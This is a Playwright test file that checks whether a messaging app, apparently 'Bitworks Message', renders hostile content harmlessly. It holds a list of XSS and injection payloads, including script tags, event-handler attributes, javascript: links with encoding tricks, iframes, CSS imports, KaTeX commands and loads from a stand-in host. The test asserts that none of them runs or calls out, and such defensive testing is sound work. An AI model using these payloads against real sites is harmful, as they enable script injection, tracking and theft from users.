import { expect, test, type BrowserContext } from '@playwright/test';
import type { Device } from './device.js';
import { threeDevices } from './threeDevices.js';

// Only what is near the screen stands in the page.
test.use({ viewport: { width: 1280, height: 4000 } });

const ELSEWHERE = 'http://tracker.example';
const ATTACKS = [
  '<script>window.hacked = 1</script>',
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<img src="${ELSEWHERE}/b.png" onerror="window.hacked = 2">`,
  '<img src=x onerror=window.hacked=3>',
  `![picture](${ELSEWHERE}/c.png)`,
  '![picture](data:image/svg+xml,<svg/onload=window.hacked=4>)',
  '<svg onload="window.hacked = 5"><script>window.hacked = 6</script></svg>',
  `<svg><image href="${ELSEWHERE}/d.png"/><animate onbegin="window.hacked=7"/></svg>`,
  `<iframe src="${ELSEWHERE}/e"></iframe>`,
  '<iframe srcdoc="<script>parent.hacked = 8</script>"></iframe>',
  `<style>@import "${ELSEWHERE}/f.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/g.css">`,
  `<meta http-equiv="refresh" content="0; url=${ELSEWHERE}/h">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}/i"><button autofocus onfocus="window.hacked = 9">press</button></form>`,
  `<video src="${ELSEWHERE}/j.mp4" autoplay onplay="window.hacked = 10"></video>`,
  `<div style="background: url(${ELSEWHERE}/k.png)" onmouseover="window.hacked = 11">hover</div>`,
  '<details open ontoggle="window.hacked = 12">open</details>',
  '[press](javascript:window.hacked=13)',
  '[press](JaVaScRiPt:window.hacked=14)',
  '[press](&#106;avascript:window.hacked=15)',
  '[press](java&Tab;script:window.hacked=16)',
  '[press](vbscript:window.hacked=17)',
  '[press](data:text/html,<script>opener.hacked=18</script>)',
  '[press](blob:http://localhost/19) [press](file:///etc/passwd) [press](//tracker.example/)',
  '<javascript:window.hacked=20>',
  '[press][reference]\n\n[reference]: javascript:window.hacked=21',
  '```"><img src=x onerror=window.hacked=22>\ncode\n```',
  '`<img src=x onerror=window.hacked=23>`',
  '| a |\n| - |\n| <img src=x onerror=window.hacked=24> |',
  // Letters of every size: their fonts are loaded from here.
  '$$\\Bigg( \\bigg( \\Big( \\big( x$$',
  '$$\\href{javascript:window.hacked=25}{x}$$',
  `$$\\includegraphics{${ELSEWHERE}/l.png}$$`,
  '$$\\htmlStyle{background: url(http://tracker.example/m.png)}{x}$$',
  'A note[^1]\n\n[^1]: <img src=x onerror=window.hacked=26>',
  'The end of it',
];
const WHOLE = ATTACKS.join('\n\n');
const TITLE = '<img src=x onerror=window.hacked=27>"><script>window.hacked=28</script>';

/** What was asked of other servers, stopped by the page's policy, or opened, since this was called. */
async function watch(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  context.on('request', (request) => {
    if (/tracker\.example|\/x$/.test(request.url())) seen.push(request.url());
  });
  context.on('dialog', (dialog) => seen.push(dialog.message()));
  context.on('page', (page) => seen.push(page.url()));
  await context.exposeFunction('toldOfViolation', (what: string) => seen.push(what));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) => {
      (window as unknown as { toldOfViolation: (what: string) => void }).toldOfViolation(
        `${violatedDirective} ${blockedURI}`,
      );
    });
  });
  return seen;
}

async function expectHarmless({ page }: Device): Promise<void> {
  const content = page.getByTestId('content');
  const live = 'script, style, link, meta, base, iframe, img, image, video, form, animate, object, embed';
  await expect(content.locator(live)).toHaveCount(0);
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll('[data-testid=content] *, nav *, h1')];
    const attributes = elements.flatMap(({ attributes }) => [...attributes]);
    return {
      hacked: 'hacked' in window,
      handlers: attributes.filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
      styles: attributes.filter(({ name, value }) => name === 'style' && value.includes('url(')).length,
      addresses: elements
        .filter((element) => element instanceof HTMLAnchorElement)
        .filter(({ protocol }) => !['http:', 'https:', 'mailto:'].includes(protocol))
        .map(({ href }) => href),
    };
  });
  expect(found).toEqual({ hacked: false, handlers: [], styles: 0, addresses: [] });
}

/** What says `press` leads nowhere, whatever it is. */
async function pressAll({ page }: Device): Promise<void> {
  for (const one of await page.getByTestId('content').getByText('press', { exact: true }).all())
    await one.click({ force: true });
}

test('nothing in a message, a title or a text that grows runs, or loads anything', async ({ browser }) => {
  const { first, second, other, all, home, away } = await threeDevices(browser, 'Attacks');
  const seen = [await watch(home), await watch(away)];
  // From here on they are watched from the first moment of the page.
  for (const device of all) {
    await device.page.reload();
    await device.isLive();
  }
  await first.write(WHOLE);
  await first.rename('Attacks', TITLE);
  const answer = await first.openAnswer();
  for (let at = 0; at < WHOLE.length; at += 250) await answer.append(WHOLE.slice(at, at + 250));
  await answer.finish();
  for (const device of all) {
    await expect(device.page.getByTestId('title')).toHaveText(TITLE);
    await expect.poll(() => device.page.title()).toContain(`${TITLE} · Bitworks Message`);
    await expect(device.message('The end of it')).toHaveCount(2);
    await expect(device.answer(1)).not.toContainText('Writing…');
    await expect(device.answer(1)).toContainText('<script>window.hacked = 1</script>');
    await expect(device.answer(1).locator('.katex').first()).toBeVisible();
    await expectHarmless(device);
  }
  for (const device of [second, other]) {
    await pressAll(device);
    await device.message('hover').first().getByText('hover').hover();
    await expectHarmless(device);
  }
  expect(seen).toEqual([[], []]);
});
